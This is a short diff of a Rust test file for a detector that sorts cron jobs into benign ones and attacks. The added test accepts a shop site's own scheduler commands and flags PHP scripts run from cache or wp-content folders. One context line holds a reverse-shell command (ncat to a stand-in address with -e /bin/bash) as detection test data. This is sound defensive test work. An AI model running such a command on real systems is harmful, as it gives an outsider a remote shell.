@@ -20,6 +20,15 @@ fn a_job_of_the_system_or_an_application_is_closed() {
 }
 
 #[test]
+fn the_job_of_a_site_is_closed_and_a_script_beside_it_is_not() {
+    assert!(job("php -f /var/www/shop/cron.php").is_benign());
+    assert!(job("cd /var/www/shop && php artisan schedule:run >> /dev/null 2>&1").is_benign());
+    for command in ["php /var/www/shop/cache/cron.php", "php /var/www/shop/wp-content/x.php"] {
+        assert!(!job(command).is_benign(), "{command}");
+    }
+}
+
+#[test]
 fn a_job_that_lets_others_in_or_blinds_is_an_attack() {
     for command in [
         "ncat 203.0.113.9 4444 -e /bin/bash",
